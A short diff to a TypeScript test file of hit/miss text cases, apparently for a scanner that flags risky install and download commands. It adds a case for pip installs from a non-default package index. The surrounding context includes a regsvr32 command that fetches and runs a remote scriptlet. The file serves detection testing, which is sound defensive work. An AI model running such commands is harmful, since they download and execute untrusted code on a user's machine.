@@ -167,6 +167,10 @@ const TEXT_CASES: Record<string, { hit: string; miss: string; path?: string }> =
     hit: "pip install --extra-index-url https://pkgs.corp-mirror.example/simple acme-core",
     miss: "pip install torch --index-url https://download.pytorch.org/whl/cu121",
   },
+  "package-index-company": {
+    hit: "Docs: https://docs.acme-tools.com\n\npip install --index-url https://pypi.acme-tools.com/simple acme-core",
+    miss: "Docs: https://docs.acme-tools.com\n\npip install --index-url https://pypi.org/simple acme-core",
+  },
   "lolbin-download-run": {
     hit: "regsvr32 /s /n /u /i:https://x.sync-x.net/c.sct scrobj.dll",
     miss: "certutil -hashfile setup.exe SHA256",
